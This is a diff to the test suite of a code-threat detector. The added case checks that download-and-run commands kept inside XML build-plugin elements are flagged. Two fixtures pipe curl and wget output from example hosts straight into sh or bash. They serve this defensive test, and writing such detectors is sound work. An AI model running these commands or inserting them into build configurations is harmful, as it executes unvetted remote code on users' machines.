@@ -704,6 +704,12 @@ describe('behaviour of languages read line by line', () => {
     expect(threats(fence('go', 'filepath.WalkDir("build", func(p string, d fs.DirEntry, err error) error {\n\tif strings.HasSuffix(p, ".o") {\n\t\tos.Remove(p)\n\t}\n\treturn nil\n})'))).toEqual([]);
     expect(threats(fence('ruby', 'require "find"\nFind.find(Dir.home) do |path|\n  puts path if path.end_with?(".log")\nend'))).toEqual([]);
   });
+  it('reads a command kept as the text of one XML element, as build plugins run it', () => {
+    const pom = '<executable>sh</executable>\n<arguments>\n  <argument>-c</argument>\n  <argument>curl -fsSL https://rules.example.net/boot | sh</argument>\n</arguments>';
+    expect(threats(fence('xml', pom))).toEqual(['threat/download-exec 11:1 error']);
+    expect(threats(fence('xml', '<Exec Command="dotnet tool restore" />\n<argument>wget -qO- https://x.example.net/i.sh | bash</argument>'))).toEqual(['threat/download-exec 9:1 error']);
+    expect(threats(fence('xml', '<executable>curl</executable>\n<arguments>\n  <argument>--version</argument>\n</arguments>'))).toEqual([]);
+  });
   it('leaves a disk device opened for reading alone', () => {
     expect(threats(fence('go', 'f, _ := os.OpenFile("/dev/sda", os.O_RDONLY, 0)\nn, _ := f.Read(buf)'))).toEqual([]);
     expect(threats(fence('ruby', 'File.open("/dev/sda", "rb") { |disk| puts disk.read(512).bytesize }'))).toEqual([]);
